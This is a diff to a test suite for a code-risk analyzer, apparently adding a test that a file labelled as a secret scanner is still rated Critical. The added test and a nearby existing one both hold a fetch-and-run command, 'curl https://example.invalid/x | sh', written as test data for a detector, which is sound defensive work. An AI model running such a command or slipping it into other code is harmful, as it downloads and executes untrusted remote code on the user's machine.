@@ -237,6 +237,13 @@ describe('an analysis', () => {
     expect((await analyze(stated)).risk_score).toBe(50);
   });
 
+  it('believes no program that says of itself to be about attacks', async () => {
+    for (const path of ['run.py', 'run.sh', 'run.js', 'run.rb']) {
+      const text = '# Secret scanner\ncheck_output("curl https://example.invalid/x | sh")\n';
+      expect((await analyze({ [path]: text })).risk_level, path).toBe('Critical');
+    }
+  });
+
   it('takes what a test hands to a check for an example, unless it runs it', async () => {
     const test = (call: string) => ({ 'test_guard.py': `self.assertTrue(${call}("curl https://example.invalid/x | sh"))\n` });
     expect((await analyze(test('is_blocked'))).risk_score).toBe(5);
